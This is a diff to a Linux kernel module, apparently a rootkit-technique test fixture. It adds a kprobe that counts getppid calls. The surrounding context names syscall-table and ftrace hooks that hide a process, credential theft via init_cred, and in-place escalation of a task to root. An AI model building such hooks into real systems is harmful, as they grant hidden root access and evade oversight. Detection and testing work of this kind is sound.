@@ -12,6 +12,8 @@
  *                  read the table: there the entry is tampering, not a live redirection)
  *   ftrace=1       ftrace hook with IP modification on __x64_sys_kill: kill(hide_pid, ...) fails
  *                  with ESRCH (effective on every kernel: x64_sys_call() calls the handler)
+ *   kprobe=1       a kprobe on __x64_sys_getppid (a pre-handler that counts calls): on an
+ *                  ftrace call site, so it runs through kprobes' own ftrace_ops
  *   steal_pid=N    point task N's cred and real_cred at init_cred (references taken)
  *   write_pid=N    task N's own cred: write all uids/gids to 0 and full capabilities, in place;
  *                  at load if write_now=1, else when 1 is written to parameters/write_now
@@ -46,6 +48,8 @@ static int sct_text_nr = 112; /* setsid */
 module_param(sct_text_nr, int, 0444);
 static int ftrace;
 module_param(ftrace, int, 0444);
+static int kprobe;
+module_param(kprobe, int, 0444);
 static int steal_pid;
 module_param(steal_pid, int, 0444);
 static int write_pid;
@@ -232,6 +236,36 @@ static void unhook_ftrace(void)
 	ftrace_on = false;
 }
 
+/* ------------------------------------------------------------ (b) kprobe */
+
+static atomic_t kprobe_hits = ATOMIC_INIT(0);
+static bool kprobe_on;
+
+static int notrace rk_kprobe_pre(struct kprobe *p, struct pt_regs *regs)
+{
+	atomic_inc(&kprobe_hits);
+	return 0;
+}
+
+static struct kprobe rk_kp = { .symbol_name = "__x64_sys_getppid", .pre_handler = rk_kprobe_pre };
+
+static int hook_kprobe(void)
+{
+	int err = register_kprobe(&rk_kp);
+
+	if (err)
+		return err;
+	kprobe_on = true;
+	return 0;
+}
+
+static void unhook_kprobe(void)
+{
+	if (kprobe_on)
+		unregister_kprobe(&rk_kp);
+	kprobe_on = false;
+}
+
 /* ------------------------------------------------------------ (c) credentials */
 
 static struct task_struct *stolen;
@@ -380,6 +414,10 @@ static int report_show(struct seq_file *m, void *v)
 		seq_printf(m, "ftrace function __x64_sys_kill addr 0x%lx ops 0x%lx hook 0x%lx calls %d\n",
 			   kill_addr, (unsigned long)&rk_ops, (unsigned long)rk_kill_hook,
 			   atomic_read(&kill_hidden_calls));
+	if (kprobe_on)
+		seq_printf(m, "kprobe function __x64_sys_getppid addr 0x%lx kprobe 0x%lx handler 0x%lx hits %d\n",
+			   (unsigned long)rk_kp.addr, (unsigned long)&rk_kp, (unsigned long)rk_kprobe_pre,
+			   atomic_read(&kprobe_hits));
 	if (stolen)
 		seq_printf(m, "cred_steal pid %d old_cred 0x%lx new_cred 0x%lx symbol init_cred\n", steal_pid,
 			   (unsigned long)stolen_old_real, (unsigned long)init_cred_p);
@@ -401,6 +439,7 @@ static void undo_all(void)
 	report = NULL;
 	restore_ids();
 	restore_stolen();
+	unhook_kprobe();
 	unhook_ftrace();
 	unhook_table();
 	unhide_task();
@@ -419,6 +458,8 @@ static int __init rk_init(void)
 	if (sct && (err = hook_table()))
 		goto fail;
 	if (ftrace && (err = hook_ftrace()))
+		goto fail;
+	if (kprobe && (err = hook_kprobe()))
 		goto fail;
 	if (steal_pid && (err = steal_cred()))
 		goto fail;
